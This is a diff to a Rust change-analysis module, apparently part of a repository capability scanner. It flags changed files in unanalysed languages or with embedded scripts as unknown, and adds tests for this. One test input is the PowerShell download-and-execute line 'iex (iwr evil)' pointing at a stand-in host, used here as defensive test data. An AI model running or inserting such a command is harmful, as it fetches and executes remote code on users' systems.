@@ -8,6 +8,7 @@ use std::collections::HashMap;
 
 use domain::RepoPath;
 
+use super::languages::foreign;
 use super::{Found, Skipped, capabilities};
 use crate::multiset::cancel;
 
@@ -72,9 +73,8 @@ pub fn delta(changes: &[Change<'_>]) -> Delta {
                 line,
                 why: "it stands in code that does not parse".to_owned(),
             }));
-            let is_script = new.skipped == Some(Skipped::Language) && after.starts_with(b"#!");
-            if let Some(why) = new.skipped.filter(|why| *why != Skipped::Language || is_script) {
-                delta.unknown.push(Unknown { path: (*path).clone(), line: 1, why: why.to_string() });
+            if let Some(why) = new.skipped.and_then(|why| unknown(path, *before, after, why)) {
+                delta.unknown.push(Unknown { path: (*path).clone(), line: changed.first().copied().unwrap_or(1), why });
             }
         }
         delta.removed.extend(old.found.into_iter().map(placed));
@@ -87,6 +87,21 @@ pub fn delta(changes: &[Change<'_>]) -> Delta {
     *unchanged += cancel(added, removed, |one| (one.path.clone(), one.found.evidence.clone(), of(one)));
     *unchanged += cancel(added, removed, |one| (one.found.evidence.clone(), of(one)));
     delta
+}
+
+/// Returns why it is not known what a file does that was not looked at; `None` where it is data, or as it was.
+fn unknown(path: &RepoPath, before: Option<&[u8]>, after: &[u8], why: Skipped) -> Option<String> {
+    if before == Some(after) {
+        return None;
+    }
+    let is_code = crate::language_of(path).is_some() || foreign::is_code(path) || after.starts_with(b"#!");
+    if why != Skipped::Language || is_code {
+        return Some(why.to_string());
+    }
+    let mut new = foreign::scripts(path, after);
+    let mut old = before.map(|before| foreign::scripts(path, before)).unwrap_or_default();
+    cancel(&mut new, &mut old, Clone::clone);
+    (!new.is_empty()).then(|| "it holds a script, which is not looked into".to_owned())
 }
 
 /// Returns the lines of `after`, from 1, that `before` does not have, counting repeats.
@@ -248,6 +263,18 @@ mod tests {
         let delta = of(&[("a.py", "a = 1\n", "a = 1\nb = = $$ 2\n")]);
         assert_eq!(delta.unknown.len(), 1, "{delta:?}");
         assert_eq!(of(&[("tool", "", "#!/usr/bin/perl\nsystem('ls');\n")]).unknown.len(), 1);
+        for name in ["a.ps1", "build.gradle", "i.vue", "n.ipynb"] {
+            assert_eq!(of(&[(name, "", "iex (iwr evil)\n")]).unknown.len(), 1, "{name}");
+            assert_eq!(of(&[(name, "a\n", "a\n")]).unknown, [], "{name}");
+            assert_eq!(of(&[(name, "a\n", "")]).unknown, [], "{name}");
+        }
+        let page = "<p>a</p>\n<script>a()</script>\n";
+        assert_eq!(of(&[("i.html", "", page)]).unknown.len(), 1);
+        assert_eq!(of(&[("i.html", page, &page.replace("a()", "b()"))]).unknown.len(), 1);
+        assert_eq!(of(&[("i.html", page, &page.replace("<p>a", "<p>b"))]).unknown, []);
+        for name in ["a.md", "a.txt", "a.json", "a.yaml", "a.toml", "a.lock", "a.css", "a.svg"] {
+            assert_eq!(of(&[(name, "a\n", "b\n")]), Delta::default(), "{name}");
+        }
         // What did not parse before and was not touched is as it was.
         let broken = "int a;\nEXTENSION unusual @@ here;\nint b;\n";
         assert_eq!(of(&[("a.c", broken, &broken.replace("int b", "int c"))]).unknown, []);
